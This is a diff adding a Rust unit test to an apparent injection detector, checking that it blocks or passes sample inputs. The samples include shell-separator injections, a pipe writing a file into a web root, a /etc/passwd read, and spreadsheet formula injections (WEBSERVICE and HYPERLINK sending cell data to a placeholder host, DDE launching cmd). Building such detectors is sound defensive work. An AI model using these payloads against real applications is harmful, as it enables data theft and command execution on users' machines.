@@ -305,6 +305,25 @@ fn names_that_are_no_commands() {
     check(&format!("; {redirections} cat {redirections} /etc/passwd"), "semicolon reading sensitive-file");
 }
 
+/// A name alone between two quotes and separators, a text that is put into a file, and formulas.
+#[test]
+fn signs_on_both_sides() {
+    blocks(Class::Command, "';backup;'", "semicolon unknown");
+    blocks(Class::Command, "\";backup;\"", "semicolon unknown");
+    blocks(Class::Command, "1|echo 'x' > /www/htdocs/x.txt", "pipe output path");
+    blocks(Class::Command, "+WEBSERVICE(\"http://a.example/?x=\"&A1)", "formula");
+    blocks(Class::Command, "@exec(\"calc\")", "formula");
+    for text in ["'red;green;'blue", "it's; then; she's", "1|echo 'x' > /dev/null", "=SUM(A1:A9)"] {
+        passes(Class::Command, text);
+    }
+    let in_field = |name, text: &str| look(Class::Command, Place::Json, name, text.as_bytes());
+    let link = "=HYPERLINK(\"https://a.example/?id=\"&A1,\"x\")";
+    for name in ["formula", "expression", "cells", "comment"] {
+        assert!(!in_field(name, link).1, "{name}");
+    }
+    assert!(in_field("company", link).1 && in_field("formula", "=DDE(\"cmd\";\"/C calc\";\"x\")").1);
+}
+
 #[test]
 fn short_ones() {
     for (text, wanted) in [
